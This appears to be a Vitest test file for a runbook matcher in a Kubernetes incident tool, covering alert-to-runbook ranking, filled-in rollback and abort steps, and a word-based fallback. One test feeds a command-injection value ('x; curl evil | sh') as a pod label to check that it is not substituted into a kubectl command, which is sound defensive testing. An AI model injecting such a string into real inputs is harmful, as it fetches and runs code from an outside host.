import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { ActionParameters } from '../../src/model/action.ts';
import { loadRunbooks } from '../../src/runbooks/load-runbooks.ts';
import { matchRunbooks, type RunbookQuestion } from '../../src/runbooks/match-runbooks.ts';
import { wordsOf } from '../../src/runbooks/text-search.ts';
import { alert, checkout, finding, runbook } from './fixtures.ts';

const { runbooks: library } = await loadRunbooks(['runbooks']);

function ids(question: Partial<RunbookQuestion>, from = library): string[] {
  const asked = { alerts: [], findings: [], subject: checkout, ...question };
  return matchRunbooks(from, asked).map((match) => match.runbook);
}

const rollback = { action: 'rollback', target: checkout, revision: 13 } as const;

describe('matchRunbooks', () => {
  it('goes from annotation over name, pattern and labels to the cause', () => {
    const some = [
      runbook('by-cause', { findings: ['node-not-ready'] }),
      runbook('by-labels', { labels: { team: 'shop' } }),
      runbook('by-pattern', { alerts: ['/Disk.*/'] }),
      runbook('by-name', { alerts: ['DiskFull'] }),
      runbook('by-annotation'),
      runbook('not', { alerts: ['DiskFul'] }),
    ];
    const question = {
      alerts: [
        alert('DiskFull', { team: 'shop' }, { runbook_url: 'https://x.example/runbooks/By-Annotation/' }),
      ],
      findings: [finding('node-not-ready')],
      subject: checkout,
    };
    expect(matchRunbooks(some, question).map((match) => [match.runbook, match.reason])).toEqual([
      ['by-annotation', "named by the alert's runbook annotation"],
      ['by-name', 'named for the alert DiskFull'],
      ['by-pattern', 'made for alerts like DiskFull'],
    ]);
    expect(ids(question, some.slice(0, 2))).toEqual(['by-labels', 'by-cause']);
  });

  it('lets labels narrow: all must hold, on one alert', () => {
    const some = [runbook('mine', { alerts: ['DiskFull'], labels: { team: 'shop', tier: '1' } })];
    const on = (labels: Record<string, string>) => alert('DiskFull', labels);
    expect(ids({ alerts: [on({ team: 'shop' })] }, some)).toEqual([]);
    expect(ids({ alerts: [on({ team: 'shop' }), on({ tier: '1' })] }, some)).toEqual([]);
    expect(ids({ alerts: [on({ team: 'shop', tier: '1' })] }, some)).toEqual(['mine']);
  });

  it('puts the runbook of the cause before those that are for other causes', () => {
    const alerts = [
      alert('KubePodCrashLooping', { pod: 'checkout-7d9f8c6b5-bx2zt' }),
      alert('KubePodNotReady'),
    ];
    expect(ids({ alerts })[0]).toBe('crash-after-rollout');
    expect(ids({ alerts, findings: [finding('out-of-memory')] })[0]).toBe('out-of-memory');
    expect(ids({ alerts, findings: [finding('image-pull-failure')] })[0]).toBe('image-pull-failure');
    expect(ids({ alerts, findings: [finding('node-not-ready')] })[0]).toBe('node-not-ready');
  });

  it('starts with the step for the cause, filled in', () => {
    const [match] = matchRunbooks(library, {
      alerts: [alert('KubePodCrashLooping', { pod: 'checkout-7d9f8c6b5-bx2zt' })],
      findings: [finding('crash-after-rollout', rollback)],
      subject: checkout,
    });
    expect(match?.reason).toBe('named for the alert KubePodCrashLooping and for the cause that was found');
    expect(match?.nextStep).toMatchObject({ action: 'rollback', section: 'Mitigation' });
    expect(match?.nextStep?.text).toBe(
      'Press "Roll back to 13", or type `/mw rollback deploy/checkout -n shop --to 13`; let a second person approve.',
    );
  });

  it.each(['crash-after-rollout', 'image-pull-failure', 'out-of-memory'] as const)(
    'begins with the abort while a release of Argo Rollouts is on its way: %s',
    (code) => {
      const target = { ...checkout, kind: 'Rollout' };
      const abort = { action: 'abort-rollout', target } as const;
      const question = { alerts: [alert('KubePodCrashLooping')], subject: checkout };
      const stepFor = (actions: readonly ActionParameters[]) =>
        matchRunbooks(library, { ...question, findings: [{ ...finding(code), actions }] })[0]?.nextStep;
      expect(stepFor([abort, { ...rollback, target }])).toMatchObject({
        action: 'abort-rollout',
        text: expect.stringContaining('`/mw abort rollout/checkout -n shop`'),
      });
      expect(stepFor([{ ...rollback, target }])?.action).toBe('rollback');
    },
  );

  it('does not start with an action that the evidence does not support', () => {
    const [match] = matchRunbooks(library, {
      alerts: [alert('KubeContainerWaiting')],
      findings: [finding('image-pull-failure')],
      subject: checkout,
    });
    expect(match?.nextStep?.action).toBeUndefined();
    expect(match?.nextStep?.text).toContain('do not roll back');
  });

  it('starts with the first step while no cause is known', () => {
    const [match] = matchRunbooks(library, {
      alerts: [alert('KubeNodeNotReady')],
      findings: [],
      subject: checkout,
    });
    expect(match?.nextStep?.number).toBe(1);
  });

  it('fills in only what Kubernetes would take as a name', () => {
    const steps = [
      { number: 1, section: 'Diagnosis', text: '`kubectl logs $POD -c ${CONTAINER} $HOME`', findings: [] },
    ];
    const filled = (labels: Record<string, string>) =>
      matchRunbooks([runbook('a', { alerts: ['A'], steps })], {
        alerts: [alert('A', labels)],
        findings: [],
        subject: checkout,
      })[0]?.nextStep?.text;
    expect(filled({ pod: 'api-0', container: 'app' })).toBe('`kubectl logs api-0 -c app $HOME`');
    expect(filled({ pod: 'x; curl evil | sh', container: '-rf' })).toBe(
      '`kubectl logs $POD -c ${CONTAINER} $HOME`',
    );
    expect(filled({ pod: 'kube-state-metrics-0', exported_pod: 'api-0' })).toContain('logs api-0');
  });

  it('takes no pod from an alert about a node', () => {
    const steps = [{ number: 1, section: 'Diagnosis', text: '$NODE $POD', findings: [] }];
    const node = { cluster: 'prod', kind: 'Node', name: 'node-3' };
    const question = { alerts: [alert('A', { pod: 'node-exporter-x7k2p' })], findings: [], subject: node };
    const [match] = matchRunbooks([runbook('a', { alerts: ['A'], steps })], question);
    expect(match?.nextStep?.text).toBe('node-3 $POD');
  });

  it('knows the real names: each workload and node alert of kube-prometheus has its runbook first', () => {
    const first = (name: string) => ids({ alerts: [alert(name)] })[0];
    expect(
      ['KubeDeploymentRolloutStuck', 'KubeContainerWaiting', 'KubeNodeUnreachable', 'KubeHpaMaxedOut'].map(
        first,
      ),
    ).toEqual(['crash-after-rollout', 'image-pull-failure', 'node-not-ready', 'load-above-capacity']);
    expect(first('ContainerOOMKilled')).toBe('out-of-memory');
    expect(first('CheckoutLatencyHigh')).toBe('load-above-capacity');
    expect(first('NodeDiskIOSaturation')).toBeUndefined();
  });
});

describe('the fallback by words', () => {
  const related = (alertname: string, description: string) =>
    matchRunbooks(library, {
      alerts: [alert(alertname, {}, { description })],
      findings: [],
      subject: checkout,
    });

  it('shows a runbook that speaks of the same as possibly related', () => {
    const [match] = related(
      'RegistryTrouble',
      'The registry refuses credentials: an image cannot be pulled, the tag does not exist.',
    );
    expect(match).toMatchObject({ runbook: 'image-pull-failure', reason: 'possibly related, by its words' });
    expect(match?.score).toBeLessThan(60);
  });

  it('keeps quiet about other things', () => {
    for (const [name, text] of [
      [
        'CephOSDFull',
        'An OSD has reached the full threshold. Writes to all pools that share it are blocked.',
      ],
      ['MysqlSlaveReplicationLag', 'MySQL replica is lagging behind its primary by more than 30 seconds.'],
      ['CertificateExpires', 'The TLS certificate of the ingress expires in less than 7 days.'],
      ['X', ''],
    ] as const) {
      expect(related(name, text), name).toEqual([]);
    }
  });

  it('names few of the rules of kube-prometheus that the library does not know', () => {
    const rules = JSON.parse(readFileSync('test/fixtures/kube-prometheus-alerts.json', 'utf8')) as {
      alert: string;
      annotations: Record<string, string>;
    }[];
    const guessed = rules.flatMap((rule) => {
      const [match] = related(
        rule.alert,
        `${rule.annotations['summary'] ?? ''} ${rule.annotations['description'] ?? ''}`,
      );
      return match !== undefined && match.score < 60 ? [`${rule.alert} → ${match.runbook}`] : [];
    });
    expect(guessed.length).toBeLessThan(8);
  });
});

describe('wordsOf', () => {
  it('splits CamelCase and leaves out what says nothing', () => {
    expect(wordsOf('KubePodCrashLooping: the HTTPServer has 5 Errors')).toEqual([
      'crash',
      'looping',
      'http',
      'server',
      'error',
    ]);
  });
});
